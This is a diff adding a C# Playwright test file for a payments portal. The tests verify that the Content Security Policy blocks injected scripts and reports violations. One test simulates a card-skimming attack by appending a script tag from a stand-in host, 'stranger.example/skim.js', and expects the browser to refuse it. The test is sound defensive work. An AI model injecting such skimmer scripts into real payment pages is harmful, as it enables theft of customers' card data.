@@ -1,0 +1,98 @@
+using System.Text.Json;
+using CustomerPayments.Domain;
+using CustomerPayments.Testing;
+
+namespace CustomerPayments.PortalTests.Gateway;
+
+/// <summary>What the browser itself reports of the paying page: nothing of ours, and what an intruder tries.</summary>
+public sealed class PolicyBreachTests : BraintreeTest
+{
+    private const string Stranger = "stranger.example";
+
+    private const string Record = """
+        window.breaches = [];
+        addEventListener('securitypolicyviolation', breach =>
+          window.breaches.push(`${breach.effectiveDirective} ${breach.blockedURI}`));
+        """;
+
+    private static readonly TimeSpan Patience = TimeSpan.FromMinutes(2);
+
+    protected override (string Key, string Value)[] Settings => [("Braintree:CollectDeviceData", "true")];
+
+    protected override bool IsGateways(Uri address) => address.Host == Stranger || base.IsGateways(address);
+
+    /// <summary>The complaint about the intruder's script belongs to what is tested.</summary>
+    protected override bool IsExpected(string complaint) =>
+        complaint.Contains(Stranger, StringComparison.Ordinal);
+
+    [Test]
+    public async Task A_walk_by_card_and_by_bank_breaks_no_policy_and_raises_no_alarm()
+    {
+        var before = await ReportsAsync();
+        await SendReportsAtOnceAsync();
+        await Page.AddInitScriptAsync(Record);
+        await ReadyToPayAsync(151_11);
+        await FillBankAccountAsync();
+        await Field("Credit card").CheckAsync();
+        await Pay.ClickAsync();
+        await Expect(Heading("Payment received")).ToBeVisibleAsync();
+
+        Assert.That(await Page.EvaluateAsync<string[]>("window.breaches"), Is.Empty);
+        Assert.That(await ReportsAsync(), Is.EqualTo(before));
+    }
+
+    [Test]
+    public async Task A_script_that_an_intruder_adds_is_refused_and_the_browser_reports_it_to_us()
+    {
+        var before = await ReportsAsync();
+        await SendReportsAtOnceAsync();
+        await Page.AddInitScriptAsync(Record);
+        await ReadyToPayAsync(152_11);
+        await Page.EvaluateAsync("""
+            () => new Promise(done => {
+              const script = document.createElement('script');
+              Object.assign(script, { src: 'https://stranger.example/skim.js', onerror: done });
+              document.head.append(script);
+            })
+            """);
+
+        Assert.That(await Page.EvaluateAsync<string[]>("window.breaches"),
+            Is.EqualTo(["script-src-elem https://stranger.example/skim.js"]));
+        Assert.That(await ReportsAsync(atLeast: before + 1), Is.EqualTo(before + 1));
+    }
+
+    /// <summary>
+    /// Chromium without windows sends nothing to what <c>report-to</c> names; with them it does, over https and within
+    /// a minute. Without <c>report-to</c> it does what Firefox and Safari do: it sends to <c>report-uri</c>, at once.
+    /// </summary>
+    private async Task SendReportsAtOnceAsync() => await Page.RouteAsync($"{Stage.Address}/portal/**", async route =>
+    {
+        if (route.Request.ResourceType != "document")
+        {
+            await route.ContinueAsync();
+            return;
+        }
+
+        var answer = await route.FetchAsync();
+        var headers = answer.Headers.ToDictionary();
+        headers["content-security-policy"] = headers["content-security-policy"]
+            .Replace("report-to policy;", "", StringComparison.Ordinal);
+        await route.FulfillAsync(new() { Response = answer, Headers = headers });
+    });
+
+    /// <returns>How many the alarm counts, as soon as there are so many.</returns>
+    private static async Task<long> ReportsAsync(long atLeast = 0)
+    {
+        using var patience = new CancellationTokenSource(Patience);
+        while (true)
+        {
+            var ready = JsonSerializer.Deserialize<JsonElement>(await Stage.Api.Http.GetStringAsync("/health/ready"));
+            var count = ready.GetProperty("alarms").EnumerateArray()
+                .Where(alarm => alarm.Text("code") == AlarmCode.PolicyBreached.Code)
+                .Sum(alarm => alarm.Number("count"));
+            if (count >= atLeast)
+                return count;
+            await Task.Delay(TimeSpan.FromMilliseconds(100), patience.Token);
+        }
+    }
+}
